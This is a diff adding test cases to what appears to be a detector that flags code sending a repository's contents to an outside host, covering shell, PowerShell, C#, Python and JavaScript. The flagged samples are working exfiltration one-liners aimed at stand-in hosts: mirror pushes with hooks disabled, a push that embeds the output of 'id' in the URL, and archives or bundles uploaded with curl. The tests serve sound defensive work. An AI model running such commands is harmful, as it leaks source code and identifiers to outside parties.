@@ -12,6 +12,39 @@ function flows(dialect: DialectName, text: string): string[] {
   ].sort();
 }
 
+describe('a repository is followed through text', () => {
+  it.each<[DialectName, string]>([
+    ['shell', `git -c core.hooksPath=/dev/null \\\n  push --quiet --mirror ${u}.git`],
+    ['shell', `host="mirror.collect.test"\ngit push "https://$host/$(id).git" "+refs/*:refs/*" &`],
+    ['shell', `git remote add backup ${u}.git\ngit push backup --all`],
+    ['shell', `hg push ${u}`],
+    ['shell', 'git push backup@collect.test:all.git HEAD'],
+    ['shell', `git archive HEAD | curl --data-binary @- ${u}`],
+    ['shell', `f=$(mktemp)\ngit bundle create "$f" --all\ncurl -T "$f" ${u}`],
+    ['powershell', `$to = '${u}/{0}.git' -f $k\nStart-Process git -ArgumentList @('push', $to)`],
+    ['powershell', `& git.exe push --all '${u}.git'`],
+    ['csharp', `Process.Start("git", "push --mirror ${u}.git");`],
+    ['python', `subprocess.run(["git", "push", "${u}.git"])`],
+    ['javascript', `execSync('git push --all ${u}.git')`],
+  ])('%s: %s', (dialect, text) => {
+    expect(flows(dialect, text)).toEqual(['repository → body']);
+  });
+
+  it.each<[DialectName, string]>([
+    ['shell', 'git push origin v1.2.3'],
+    ['shell', 'git push "https://x:$TOKEN@github.com/$REPOSITORY.git" HEAD'],
+    ['shell', `git fetch ${u}.git`],
+    ['shell', `git push "$REMOTE" --all`],
+    ['shell', `echo "git push ${u}.git"`],
+    ['shell', `git archive -o "$f" HEAD\ncurl ${u}`],
+    ['powershell', "git push origin 'release/1.2.3'"],
+    ['csharp', `Process.Start("git", "clone ${u}.git");`],
+    ['javascript', `list.push('${u}'); execSync('git status')`],
+  ])('stays quiet: %s: %s', (dialect, text) => {
+    expect(flows(dialect, text)).toEqual([]);
+  });
+});
+
 describe('a secret is followed through text', () => {
   it.each<[DialectName, string, string]>([
     [
